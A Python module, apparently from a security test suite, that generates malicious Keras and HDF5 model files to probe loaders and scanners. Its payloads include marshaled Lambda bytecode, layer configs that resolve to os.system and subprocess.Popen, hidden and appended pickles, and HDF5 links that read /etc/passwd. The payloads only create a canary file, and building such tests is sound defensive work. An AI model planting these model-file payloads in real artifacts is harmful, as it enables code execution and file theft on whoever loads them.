"""Keras and HDF5: layers that run code or read files, and structures that lie. Made with h5py and numpy of the environment that runs this."""

from __future__ import annotations

import base64
import io
import json
import marshal
from collections.abc import Iterator

from attacks.case import CANARY, Case, one, stream, system
from attacks.containers import npy, zipped

KIND = "graph"


def evil_code() -> str:
    """Keras' spelling of a function that makes the canary and returns what it is given."""
    made: dict[str, object] = {}
    exec(compile(f"def f(x):\n    open({CANARY!r}, 'w').close()\n    return x\n", "m", "exec"), made)
    return base64.b64encode(marshal.dumps(made["f"].__code__)).decode() + "\n"  # type: ignore[attr-defined]


def layer(module: str | None, class_name: str, registered: str | None = None, /, **config: object) -> dict[str, object]:
    return {
        "module": module,
        "class_name": class_name,
        "config": config,
        "registered_name": registered,
        "build_config": {"input_shape": [None, 4]},
    }


INPUT = layer("keras.layers", "InputLayer", batch_shape=[None, 4], dtype="float32", name="in")


def sequential(*layers: dict[str, object]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "trainable": True,
            "dtype": "float32",
            "layers": [INPUT, *layers],
            "build_input_shape": [None, 4],
        },
        "registered_name": None,
    }


def weights_h5() -> bytes:
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_group("layers")
        file.create_group("vars")
    return out.getvalue()


def keras(config: object, more: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    metadata = b'{"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}'
    return zipped([("metadata.json", metadata), ("config.json", text), ("model.weights.h5", weights_h5()), *more])


def cases() -> Iterator[Case]:
    code = {"class_name": "__lambda__", "config": {"code": evil_code(), "defaults": None, "closure": None}}
    forms: dict[str, tuple[object, str]] = {
        "lambda": (sequential(layer("keras.layers", "Lambda", name="l", function=code, output_shape=[4])), "keras"),
        "lambda-nested": (
            sequential(
                layer(
                    "keras.layers",
                    "TimeDistributed",
                    name="t",
                    layer=layer("keras.layers", "Lambda", name="l", function=code),
                )
            ),
            "none",
        ),
        "function-module": (
            sequential(
                layer(
                    "keras.layers",
                    "Activation",
                    name="a",
                    activation={
                        "module": "os",
                        "class_name": "function",
                        "config": "system",
                        "registered_name": "system",
                    },
                )
            ),
            "none",
        ),
        "class-elsewhere": (sequential(layer("subprocess", "Popen", args=["touch", CANARY])), "none"),
        "class-importlib": (layer("importlib", "import_module", name="evil_module"), "none"),
        "get-file": (
            sequential(
                layer(
                    "keras.layers",
                    "Lambda",
                    name="l",
                    function={
                        "module": "keras.utils",
                        "class_name": "function",
                        "config": "get_file",
                        "registered_name": "get_file",
                    },
                    arguments={"origin": "http://127.0.0.1:9/x", "fname": "x"},
                )
            ),
            "none",
        ),
        "run-legacy-loader": (layer("keras.src.legacy.saving.serialization", "func_load", code=evil_code()), "none"),
        "tfsm-layer": (
            sequential(layer("keras.layers", "TFSMLayer", name="t", filepath="/tmp/other", call_endpoint="serve")),
            "none",
        ),
        "torch-module-wrapper": (
            sequential(
                layer(
                    "keras.layers",
                    "TorchModuleWrapper",
                    name="t",
                    module={"__torch__": base64.b64encode(stream(system(), 2)).decode()},
                )
            ),
            "none",
        ),
        "registered-unknown": (sequential(layer(None, "Evil", "custom>Evil", name="e")), "none"),
        "string-lookup-file": (
            sequential(layer("keras.layers", "StringLookup", name="s", vocabulary="/etc/passwd")),
            "none",
        ),
        "enable-unsafe": (layer("keras.config", "enable_unsafe_deserialization"), "none"),
        "load-model-inside": (layer("keras.models", "load_model", filepath="/tmp/evil.keras"), "none"),
        "unknown-class": (sequential(layer("my_package.layers", "Layer", name="x")), "none"),
    }
    for name, (config, loader) in forms.items():
        yield one(KIND, f"keras-{name}", keras(config), path="model.keras", loader=loader)
    honest = json.dumps(sequential(layer("keras.layers", "Dense", name="d", units=4)))
    twice = honest[:-1] + ', "module": "os", "class_name": "system"}'
    yield one(KIND, "keras-key-twice", keras(twice.encode()), path="model.keras", loader="none")
    yield one(
        KIND,
        "keras-two-configs",
        keras(honest.encode(), (("config.json", json.dumps(forms["lambda"][0]).encode()),)),
        path="model.keras",
        loader="none",
    )
    yield one(
        KIND,
        "keras-config-case",
        keras(honest.encode(), (("Config.json", json.dumps(forms["lambda"][0]).encode()),)),
        path="model.keras",
        loader="none",
    )
    yield one(
        KIND,
        "keras-asset-pickle",
        keras(honest.encode(), (("assets/vocab", stream(system(), 2)),)),
        path="model.keras",
        loader="none",
    )
    yield one(
        KIND,
        "keras-npz-object",
        zipped(
            [
                ("metadata.json", b"{}"),
                ("config.json", honest.encode()),
                ("model.weights.npz", zipped([("a.npy", npy("|O", stream(system(), 2)))])),
            ]
        ),
        path="model.keras",
        loader="none",
    )
    yield one(KIND, "keras-json-lambda", json.dumps(forms["lambda"][0]).encode(), path="model.json", loader="none")
    yield from hdf5_cases(forms["lambda"][0])


def hdf5_cases(config: object) -> Iterator[Case]:
    import h5py
    import numpy

    def made(fill: object) -> bytes:
        out = io.BytesIO()
        with h5py.File(out, "w") as file:
            fill(file)  # type: ignore[operator]
        return out.getvalue()

    old = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "in"},
                },
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": [evil_code(), None, None],
                        "function_type": "lambda",
                        "output_shape": [4],
                        "output_shape_type": "raw",
                        "arguments": {},
                    },
                },
            ],
        },
    }

    def model(file: object) -> None:
        file.attrs["model_config"] = json.dumps(old)  # type: ignore[attr-defined]
        file.attrs["keras_version"] = "2.12.0"  # type: ignore[attr-defined]
        file.create_group("model_weights").attrs["layer_names"] = numpy.array([], dtype="S1")  # type: ignore[attr-defined]

    def new_form(file: object) -> None:
        file.attrs["model_config"] = json.dumps(config)  # type: ignore[attr-defined]

    def external_link(file: object) -> None:
        file["weights"] = h5py.ExternalLink("/etc/passwd", "/x")  # type: ignore[index]

    def soft_link(file: object) -> None:
        file["weights"] = h5py.SoftLink("/../../x")  # type: ignore[index]

    def external_storage(file: object) -> None:
        file.create_dataset("w", (4,), "<f4", external=[("/etc/passwd", 0, 16)])  # type: ignore[attr-defined]

    def pickled_attribute(file: object) -> None:
        file.create_dataset("w", data=numpy.zeros(4, "<f4")).attrs["state"] = numpy.void(stream(system(), 2))  # type: ignore[attr-defined]

    def huge_shape(file: object) -> None:
        file.create_dataset("w", (1 << 40, 1 << 10), "<f8", chunks=(1 << 10, 1 << 10))  # type: ignore[attr-defined]

    for name, fill in {
        "h5-lambda": model,
        "h5-lambda-new-form": new_form,
        "h5-external-link": external_link,
        "h5-external-storage": external_storage,
        "h5-pickled-attribute": pickled_attribute,
        "h5-huge-shape": huge_shape,
        "h5-dangling-link": soft_link,
    }.items():
        yield one(KIND, name, made(fill), path="model.h5", loader="keras" if name == "h5-lambda" else "none")
    yield one(
        KIND,
        "h5-pickle-in-user-block",
        stream(system(), 2).ljust(512, b"\0") + made(lambda f: f.create_dataset("w", data=numpy.zeros(4, "<f4"))),
        path="model.h5",
        loader="none",
    )
    yield one(
        KIND,
        "h5-pickle-appended",
        made(lambda f: f.create_dataset("w", data=numpy.zeros(4, "<f4"))) + stream(system(), 2),
        path="model.h5",
        loader="none",
    )
